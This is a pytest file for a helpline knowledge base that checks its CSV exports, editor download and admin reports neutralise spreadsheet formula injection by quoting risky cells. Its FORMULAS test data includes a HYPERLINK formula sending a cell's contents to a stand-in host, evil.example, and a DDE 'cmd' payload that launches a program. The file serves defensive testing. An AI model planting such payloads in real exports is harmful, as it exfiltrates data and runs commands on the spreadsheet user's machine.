"""CSV cells that spreadsheets open as text: the shared helper, and both CSV exports."""

import csv
import io
import zipfile

import pytest

from knowledge import csv_cells, transfer
from knowledge.db import connect
from tests.admin_support import add_staff, sign_in

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=1+1",  # already quoted: keeps its quote after a round trip
    "''@x",
]
LEFT_AS_THEY_ARE = ["+12037724420", "+1 (203) 555-0123", "-5", "-2.5", "'Tis", "plain", "", "'"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_could_be_a_formula_starts_with_a_quote_and_reads_back(value):
    cell = csv_cells.neutralise(value)
    assert cell == "'" + value
    assert csv_cells.restore(cell) == value


@pytest.mark.parametrize("value", LEFT_AS_THEY_ARE)
def test_phone_numbers_numbers_and_text_are_left_as_they_are(value):
    assert csv_cells.neutralise(value) == value
    assert csv_cells.restore(value) == value


def test_numbers_and_empty_cells_pass_through():
    assert csv_cells.safe_row([3, None, -1.5, "=x"]) == [3, None, -1.5, "'=x"]


def starts_a_formula(cell: str) -> bool:
    return cell[:1] in csv_cells.TRIGGERS and not csv_cells._PLAIN_NUMBER.fullmatch(cell)


@pytest.fixture
def planted(database):
    """A service, an FAQ answer and a phone description that a spreadsheet would run."""
    hotline = next(r for r in database["service"].rows if "Hotline" in (r["name"] or ""))
    database["service"].update(hotline["id"], {"name": FORMULAS[0]})
    phone = next(iter(database["phone"].rows))
    database["phone"].update(phone["id"], {"description": "@SUM(A1:A9)"})
    return hotline["id"]


def test_kb_export_csv_writes_formulas_as_text_and_imports_them_back(app, planted, tmp_path):
    out = tmp_path / "export"
    result = app.test_cli_runner().invoke(
        args=["kb", "export", "--format", "csv", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    cells = []
    for path in out.glob("*.csv"):
        with open(path, newline="", encoding="utf-8") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    assert "'" + FORMULAS[0] in cells and "'@SUM(A1:A9)" in cells
    assert not [cell for cell in cells if starts_a_formula(cell)]
    assert "+12037724420" in cells  # phone numbers as the directory holds them
    db = connect(app.config["DATABASE"])
    db["service"].update(planted, {"name": "changed"})
    report = transfer.import_path(db, out)
    assert not report.rejected
    assert db["service"].get(planted)["name"] == FORMULAS[0]


def test_the_editors_csv_download_writes_formulas_as_text(app, planted):
    content, _mime, _name = transfer.export_bytes(connect(app.config["DATABASE"]), "csv")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        text = archive.read("service.csv").decode()
    names = [row["name"] for row in csv.DictReader(io.StringIO(text))]
    assert "'" + FORMULAS[0] in names


def test_the_reports_csv_writes_a_formula_in_a_resource_name_as_text(app, client, sms, planted):
    sms("i need help my boss took my passport")
    add_staff(app, "viewer")
    sign_in(client, "viewer")
    response = client.get("/admin/reports.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULAS[0] in cells
    assert not [cell for cell in cells if starts_a_formula(cell)]
